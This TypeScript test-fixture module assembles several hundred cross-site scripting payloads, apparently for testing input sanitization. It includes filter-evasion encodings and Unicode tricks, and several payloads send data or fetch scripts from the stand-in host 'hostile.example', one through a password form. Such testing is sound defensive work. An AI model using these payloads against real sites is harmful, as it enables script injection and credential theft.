/*
 * What somebody might write into a field to make it run in another person's browser. `§` stands
 * for the text's own number, so that one that runs says which it was: `hit(17)`. Each reaches for
 * `hit`, for an address with `hostile` in it, or for the look of the page.
 */
const written = String.raw`
<script>hit(§)</script>
<SCRIPT SRC=//hostile.example/§.js></SCRIPT>
<script src="data:text/javascript,hit(§)"></script>
<script type=module>hit(§)</script>
<ScRiPt >hit(§)</sCrIpT >
<script/x>hit(§)</script>
<scr<script>ipt>hit(§)</scr</script>ipt>
</script><script>hit(§)</script>
</title><script>hit(§)</script>
</textarea><script>hit(§)</script>
</style><script>hit(§)</script>
</noscript><script>hit(§)</script>
--><script>hit(§)</script>
]]><script>hit(§)</script>
<!--<script>--><script>hit(§)</script>
</script><!--<script><script>hit(§)</script>
"}</script><script>hit(§)</script>
';hit(§);//
";hit(§);//
\";hit(§);//
');hit(§);//
"-hit(§)-"
<img src=/hostile-§ onerror=hit(§)>
<img src="/hostile-§" onerror="hit(§)">
<img src='/hostile-§' onerror='hit(§)'>
<img/src=/hostile-§/onerror=hit(§)>
<img src=/hostile-§ oNeRrOr=hit(§)>
<img src=/hostile-§ onerror=&#104;it(§)>
<img src=/hostile-§ onerror="&#x68;&#x69;&#x74;(§)">
<img src=/hostile-§ onerror=window['hi'+'t'](§)>
<img src=/hostile-§ onerror="eval(atob('aGl0'))(§)">
<img src=/hostile-§ onerror=\u0068it(§)>
<img src=/hostile-§ onerror="setTimeout('hit(§)')">
<img src=/hostile-§ onerror="new Function('hit(§)')()">
<img src=/hostile-§ onerror="import('data:text/javascript,hit(§)')">
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=hit(§)>
<img srcset=/hostile-§ onerror=hit(§)>
<picture><source srcset=/hostile-§><img onerror=hit(§)></picture>
<image src=/hostile-§ onerror=hit(§)>
<input type=image src=/hostile-§ onerror=hit(§)>
<input autofocus onfocus=hit(§)>
<textarea autofocus onfocus=hit(§)></textarea>
<select autofocus onfocus=hit(§)></select>
<button autofocus onfocus=hit(§)>press</button>
<a href=# tabindex=1 autofocus onfocus=hit(§)>here</a>
<div contenteditable autofocus onfocus=hit(§)>here</div>
<body onload=hit(§)>
<body onpageshow=hit(§)>
<body onhashchange=hit(§) onresize=hit(§)>
<video><source onerror=hit(§)></video>
<video src=/hostile-§ onerror=hit(§)></video>
<video poster=/hostile-§ onloadstart=hit(§) src=/hostile-§></video>
<audio src=/hostile-§ onerror=hit(§)></audio>
<audio autoplay src=/hostile-§ onloadstart=hit(§)>
<details open ontoggle=hit(§)>more</details>
<marquee onstart=hit(§)>moving</marquee>
<object data="data:text/html,<script>parent.hit(§)</script>"></object>
<object data=/hostile-§ onerror=hit(§)></object>
<embed src="javascript:hit(§)">
<iframe srcdoc="<script>parent.hit(§)</script>"></iframe>
<iframe src="javascript:parent.hit(§)"></iframe>
<iframe onload=hit(§)></iframe>
<iframe src="data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4="></iframe>
<frameset onload=hit(§)><frame src=/hostile-§></frameset>
<link rel=stylesheet href=//hostile.example/§.css onerror=hit(§)>
<link rel=preload as=script href=/hostile-§.js onerror=hit(§)>
<link rel=import href=/hostile-§>
<base href=//hostile.example/>
<meta http-equiv=refresh content="0;url=javascript:hit(§)">
<meta http-equiv=refresh content="0;url=//hostile.example/§">
<style onload=hit(§)></style>
<style>@import "//hostile.example/§.css";</style>
<style>*{background:url(//hostile.example/§)}</style>
<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=hit(§)>b</b>
<b style="background:url(/hostile-§)">b</b>
<b style="width:expression(hit(§))">b</b>
<b style="position:fixed;inset:0;z-index:99999;background:red">hostile cover §</b>
<svg onload=hit(§)>
<svg/onload=hit(§)>
<svg><script>hit(§)</script></svg>
<svg><script>hit&#40;§&#41;</script></svg>
<svg><script href="data:text/javascript,hit(§)"></script></svg>
<svg><animate onbegin=hit(§) attributeName=x dur=1s></svg>
<svg><set onbegin=hit(§) attributeName=x></svg>
<svg><a><animate attributeName=href values="javascript:hit(§)"/><text y=20>here</text></a></svg>
<svg><image href=/hostile-§ onerror=hit(§)></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit(§)</script></svg>#x"></svg>
<svg><foreignObject><img src=/hostile-§ onerror=hit(§)></foreignObject></svg>
<svg><style><img src=/hostile-§ onerror=hit(§)></style></svg>
<svg></p><style><a id="</style><img src=/hostile-§ onerror=hit(§)>">
<math><mi xlink:href="javascript:hit(§)">here</mi></math>
<math><mtext><table><mglyph><style><img src=/hostile-§ onerror=hit(§)>
<math><annotation-xml encoding=text/html><img src=/hostile-§ onerror=hit(§)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=/hostile-§ onerror=hit(§)>
<noscript><p title="</noscript><img src=/hostile-§ onerror=hit(§)>">
<template><img src=/hostile-§ onerror=hit(§)></template>
<listing>&lt;img src=/hostile-§ onerror=hit(§)&gt;</listing>
<xmp><p title="</xmp><img src=/hostile-§ onerror=hit(§)>">
<plaintext><img src=/hostile-§ onerror=hit(§)>
<table background=/hostile-§><td background="javascript:hit(§)">
<a href="javascript:hit(§)">here</a>
<a href="JaVaScRiPt:hit(§)">here</a>
<a href=" javascript:hit(§)">here</a>
<a href="java&#9;script:hit(§)">here</a>
<a href="javascript&colon;hit(§)">here</a>
<a href="&#106;avascript:hit(§)">here</a>
<a href="data:text/html,<script>hit(§)</script>">here</a>
<a href="vbscript:hit(§)">here</a>
<a href=# onclick=hit(§)>here</a>
<a href=//hostile.example ping=//hostile.example/§>here</a>
<form action="javascript:hit(§)"><button>send</button></form>
<form><button formaction="javascript:hit(§)">send</button></form>
<form action=//hostile.example/§><input name=password><input type=submit></form>
<form id=hostile§><input name=attributes><input name=nodeName></form>
<img name=hostile§ id=currentScript><a id=user name=user href="hostile:§">
javascript:hit(§)
javascript://example.org/%0Ahit(§)
JAVASCRIPT:hit(§)//https://example.org
data:text/html,<script>hit(§)</script>
https://example.org/"onmouseover="hit(§)
https://example.org/'onfocus='hit(§)'autofocus='
https://example.org/><img/src=/hostile-§/onerror=hit(§)>
https://example.org/<svg/onload=hit(§)>
https://javascript:hit(§)@example.org/
www.example.org"onclick="hit(§)
www.example.org/javascript:hit(§)
https://example.org/?next=javascript:hit(§)#"><script>hit(§)</script>
[here](javascript:hit(§))
[here](javascript:hit(§) "title")
![here](/hostile-§"onerror="hit(§))
![here](javascript:hit(§))
<javascript:hit(§)>
[here]: javascript:hit(§)
[url=javascript:hit(§)]here[/url]
[img]/hostile-§"onerror="hit(§)[/img]
{{constructor.constructor('hit(§)')()}}
{{name}}{{class}}{{date}}<img src=/hostile-§ onerror=hit(§)>
{{{hit(§)}}}
${'$'}{hit(§)}
#{hit(§)}
<%= hit(§) %>
{% raw %}<script>hit(§)</script>{% endraw %}
[[hit(§)]]
{"__html":"<img src=/hostile-§ onerror=hit(§)>"}
{"__proto__":{"innerHTML":"<script>hit(§)</script>"}}
%3Cscript%3Ehit(§)%3C%2Fscript%3E
%253Cscript%253Ehit(§)%253C%252Fscript%253E
&lt;script&gt;hit(§)&lt;/script&gt;
&amp;lt;script&amp;gt;hit(§)&amp;lt;/script&amp;gt;
&#60;img src=/hostile-§ onerror=hit(§)&#62;
&#x3c;svg onload=hit(§)&#x3e;
\u003cscript\u003ehit(§)\u003c/script\u003e
\x3cscript\x3ehit(§)\x3c/script\x3e
\74script\76hit(§)\74/script\76
+ADw-script+AD4-hit(§)+ADw-/script+AD4-
Subject: hit(§)\r\nContent-Type: text/html\r\n\r\n<script>hit(§)</script>
=HYPERLINK("javascript:hit(§)")
`;

/** Shapes that a plain line cannot hold: odd letters, invisible marks and overrides. */
const odd = [
  '<script\n>hit(§)</script\n>',
  '<img src=/hostile-§ onerror\n=hit(§)>',
  '＜script＞hit(§)＜/script＞',
  '‹script›hit(§)‹/script›',
  '<img src=/hostile-§ onerror\u00A0=hit(§)>',
  '<img src=/hostile-§ onerror=hit\u2060(§)>',
  '<\u200Bscript>hit(§)</script>',
  '<scr\u00ADipt>hit(§)</script>',
  '<ſcript>hit(§)</ſcript>',
  '<ımg src=/hostile-§ onerror=hit(§)>',
  'java\u200Bscript:hit(§)',
  '<a href="\u0001javascript:hit(§)">here</a>',
  '<a href="java\tscript:hit(§)">here</a>',
  '\u202E>tpircs/<)§(tih>tpircs<\u202C<script>hit(§)</script>',
  '\u2066<img src=/hostile-§ onerror=hit(§)>',
  '\u2067مرحبا\u2069"><script>hit(§)</script>',
  '\u202Dhttps://example.org/\u202Ejavascript:hit(§)',
  'مرحبا<img src=/hostile-§ onerror=hit(§)>بك',
  'كِتَابٌ"onmouseover="hit(§)',
  '\uFEFF<script>hit(§)</script>',
  'let\u2028hit(§)\u2029end',
  `Z${'\u0300\u0323'.repeat(10)}<svg onload=hit(§)>`,
  '😀<script>hit(§)</script>😀',
  '<svg\u000Conload=hit(§)>',
];

/** What a page may have put around a text: each ending leaves another place. */
const endings = [
  '">',
  `'>`,
  '`>',
  '--!>',
  ']]>',
  '\\">',
  '&quot;>',
  '</a>',
  '</bdi></span></p></div>',
  '</li></ul>',
  '</option></select>',
  '</svg>',
  '</td></tr></table>',
  '</dialog></template>',
  '</title></textarea>',
];

/** What may follow such an ending. */
const followers = [
  '<script>hit(§)</script>',
  '<img src=/hostile-§ onerror=hit(§)>',
  '<svg onload=hit(§)>',
  '<iframe srcdoc="<script>parent.hit(§)</script>"></iframe>',
  '<details open ontoggle=hit(§)>more</details>',
  '<a href="javascript:hit(§)">here</a>',
  '<b style="background:url(/hostile-§)">b</b>',
  '<input autofocus onfocus=hit(§)>',
];

/**
 * Whether every text stands in every field, as in `npm run promises -- 9 --full`; otherwise there are
 * fewer texts, and of what a school has in numbers fewer hold them.
 */
export const isWide = process.env.HOSTILE_TEXTS === 'all';

const composed = endings.flatMap((ending) => followers.map((follower) => ending + follower));

/** All of them, each with its number in its place: 300 at the least where every one is asked for. */
export const hostileTexts: readonly string[] = [
  ...written.trim().split('\n'),
  ...odd,
  ...(isWide ? composed : []),
].map((text, index) => text.replaceAll('§', String(index)));

/** Every text, one below the other. */
export const everyText = hostileTexts.join('\n');

/** The text at a place, from the beginning again behind the last. */
export const textAt = (index: number) => hostileTexts[index % hostileTexts.length] ?? '';

/** So many of what holds the texts, or all of it where every text stands in every field. */
export const someOf = <T>(all: readonly T[], count: number): readonly T[] =>
  isWide ? all : all.slice(0, count);

/** In parts of so many, for lists that are bounded. */
export function partsOf<T>(all: readonly T[], size: number): T[][] {
  const parts: T[][] = [];
  for (let from = 0; from < all.length; from += size) parts.push(all.slice(from, from + size));
  return parts;
}

/** The texts joined to as few as fit in `limit` characters each, for a field of that length. */
export function hostilePacks(limit: number, separator = ' '): string[] {
  const packs: string[] = [];
  for (const text of hostileTexts.filter(({ length }) => length <= limit)) {
    const last = packs.at(-1);
    if (last !== undefined && last.length + separator.length + text.length <= limit) {
      packs[packs.length - 1] = last + separator + text;
    } else {
      packs.push(text);
    }
  }
  return packs;
}

/** The texts of at most so many characters, by place, from the beginning again behind the last. */
export function shortTexts(limit: number): (place: number) => string {
  const texts = hostileTexts.filter(({ length }) => length <= limit);
  return (place) => texts[place % texts.length] ?? '';
}

/** As {@link hostilePacks}, by place, from the beginning again behind the last. */
export function packsBy(limit: number, separator?: string): (place: number) => string {
  const packs = hostilePacks(limit, separator);
  return (place) => packs[place % packs.length] ?? '';
}

/** A table as a spreadsheet saves it. */
export const tableOf = (rows: readonly (readonly string[])[]): string =>
  rows
    .map((cells) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(','))
    .join('\r\n');
